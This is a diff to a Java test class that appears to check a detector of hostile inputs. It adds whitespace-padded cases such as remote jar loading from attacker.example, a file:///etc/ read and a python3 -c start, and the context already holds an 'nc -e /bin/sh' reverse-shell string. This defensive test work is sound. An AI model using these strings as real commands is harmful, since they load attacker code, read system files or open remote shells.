@@ -57,6 +57,13 @@ class PaddedTextTest {
         arguments(CLASS, loaded(cut("jar:" + manyBlanks + "http://attacker.example/a.jar!/b/"))),
         arguments(CLASS, loaded(cut("jar:" + manyBlanks + "http://attacker.example/" + path))),
         arguments(FETCHED, entity(cut(manyBlanks + "http://attacker.example/" + path))),
+        arguments(
+            FETCHED, entity(cut(" ".repeat(BEGINNING - 2) + "http://attacker.example/" + path))),
+        arguments(FETCHED, entity(cut(" ".repeat(BEGINNING - 9) + "url:http://a.example/" + path))),
+        arguments(READ, entity(cut(" ".repeat(BEGINNING - 3) + "file:///etc/" + path))),
+        arguments(
+            CLASS,
+            loaded(cut("jar:" + " ".repeat(BEGINNING - 6) + "http://attacker.example/" + path))),
         arguments(ENCODED, started("python3" + " -B".repeat(2_500) + " -c x")),
         arguments(ENCODED, started(MARKS + " python3 -c x")),
         arguments(REVERSE, started("nc ".repeat(2_700) + "-e /bin/sh")),
